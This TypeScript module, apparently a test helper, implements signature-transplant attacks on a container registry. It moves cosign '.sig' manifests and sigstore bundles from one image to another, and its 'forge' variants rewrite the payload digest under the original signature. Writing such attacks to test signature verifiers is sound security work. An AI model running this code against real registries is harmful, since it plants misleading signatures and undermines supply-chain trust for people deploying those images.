/** What an attacker with write access to the registry does with genuine signatures. */
import { digestOf } from './images.ts';
import {
  fetchBlob,
  fetchManifest,
  pushBlob,
  pushManifest,
  type RegistryAccess,
} from './registry-client.ts';

/** A manifest in some repository. */
export interface Place {
  readonly repository: string;
  readonly digest: string;
}

interface Descriptor {
  readonly mediaType: string;
  readonly digest: string;
  readonly size: number;
  readonly annotations?: Readonly<Record<string, string>>;
}

interface SignatureManifest {
  readonly layers: readonly Descriptor[];
  readonly config: Descriptor;
  readonly subject?: Descriptor;
}

interface Index {
  readonly manifests: readonly Descriptor[];
}

type Edit = (payload: Buffer) => Buffer;

const untouched: Edit = (payload) => payload;

/** Puts the `.sig` of one image where the `.sig` of another belongs. */
export async function moveSignature(registry: RegistryAccess, from: Place, to: Place) {
  await transplantSignature(registry, from, to, untouched);
}

/** The same, and lets the payload name the other image, under the old signature. */
export async function forgeSignature(registry: RegistryAccess, from: Place, to: Place) {
  await transplantSignature(registry, from, to, (payload) => rename(payload, from, to));
}

/** Makes the bundle of one image a referrer of another. */
export async function moveBundle(registry: RegistryAccess, from: Place, to: Place) {
  await transplantBundle(registry, from, to, untouched);
}

/** The same, and lets the statement inside name the other image, under the old signature. */
export async function forgeBundle(registry: RegistryAccess, from: Place, to: Place) {
  await transplantBundle(registry, from, to, (bytes) => {
    const bundle = readJson(bytes) as { dsseEnvelope: { payload: string } };
    const payload = rename(Buffer.from(bundle.dsseEnvelope.payload, 'base64'), from, to);
    const dsseEnvelope = { ...bundle.dsseEnvelope, payload: payload.toString('base64') };
    return writeJson({ ...bundle, dsseEnvelope });
  });
}

async function transplantSignature(
  registry: RegistryAccess,
  from: Place,
  to: Place,
  edit: Edit,
): Promise<void> {
  const found = await fetchManifest(registry, from.repository, `${tagOf(from.digest)}.sig`);
  const manifest = await transplantLayers(registry, from, to, found.bytes, edit);
  const tag = `${tagOf(to.digest)}.sig`;
  await pushManifest(registry, to.repository, tag, writeJson(manifest), found.mediaType);
}

async function transplantBundle(
  registry: RegistryAccess,
  from: Place,
  to: Place,
  edit: Edit,
): Promise<void> {
  const fallback = await fetchManifest(registry, from.repository, tagOf(from.digest));
  const target = await fetchManifest(registry, to.repository, to.digest);
  const descriptors: Descriptor[] = [];
  const index = readJson(fallback.bytes) as Index;
  for (const descriptor of index.manifests) {
    const found = await fetchManifest(registry, from.repository, descriptor.digest);
    const moved = await transplantLayers(registry, from, to, found.bytes, edit);
    const subject = {
      mediaType: target.mediaType,
      digest: to.digest,
      size: target.bytes.length,
    };
    const bytes = writeJson({ ...moved, subject });
    const digest = await pushUnderDigest(registry, to.repository, bytes, found.mediaType);
    descriptors.push({ ...descriptor, digest, size: bytes.length });
  }
  await pushManifest(
    registry,
    to.repository,
    tagOf(to.digest),
    writeJson({ ...index, manifests: descriptors }),
    fallback.mediaType,
  );
}

async function transplantLayers(
  registry: RegistryAccess,
  from: Place,
  to: Place,
  manifestBytes: Buffer,
  edit: Edit,
): Promise<SignatureManifest> {
  const manifest = readJson(manifestBytes) as SignatureManifest;
  const config = await fetchBlob(registry, from.repository, manifest.config.digest);
  await pushBlob(registry, to.repository, config);
  const layers: Descriptor[] = [];
  for (const layer of manifest.layers) {
    const bytes = edit(await fetchBlob(registry, from.repository, layer.digest));
    const digest = await pushBlob(registry, to.repository, bytes);
    layers.push({ ...layer, digest, size: bytes.length });
  }
  return { ...manifest, layers };
}

async function pushUnderDigest(
  registry: RegistryAccess,
  repository: string,
  bytes: Buffer,
  mediaType: string,
): Promise<string> {
  return pushManifest(registry, repository, digestOf(bytes), bytes, mediaType);
}

/** Statements name bare hexadecimal digests, payloads prefixed ones. */
function rename(payload: Buffer, from: Place, to: Place): Buffer {
  const text = payload.toString('utf8');
  return Buffer.from(text.replaceAll(hexOf(from.digest), hexOf(to.digest)));
}

function hexOf(digest: string): string {
  return digest.slice('sha256:'.length);
}

function tagOf(digest: string): string {
  return digest.replace(':', '-');
}

function readJson(bytes: Buffer): unknown {
  return JSON.parse(bytes.toString('utf8'));
}

function writeJson(value: object): Buffer {
  return Buffer.from(JSON.stringify(value));
}
